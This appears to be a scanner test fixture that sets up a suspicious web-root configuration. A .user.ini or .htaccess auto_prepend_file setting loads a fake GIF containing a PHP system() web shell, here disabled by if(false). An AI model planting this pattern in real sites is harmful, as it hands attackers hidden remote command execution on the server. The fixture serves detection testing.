# id: P323
# mode: scan
# level: suspicious
# title: a setting in the web root that puts a program before every page
# due: now
word name
place=/var/www/html
mkdir -p "$place/img"
pick how user htaccess
file=$place/.user.ini
if [ "$how" = user ]; then
    printf 'auto_prepend_file = img/%s.gif\n' "$name" >"$file"
else
    file=$place/.htaccess
    printf 'php_value auto_prepend_file "%s/img/%s.gif"\n' "$place" "$name" >"$file"
fi
printf 'GIF89a<?php if(false){system($_REQUEST["c"]);} ?>' >"$place/img/$name.gif"
chown -R www-data: "$place"
said path "$file"
said path "$place/img/$name.gif"
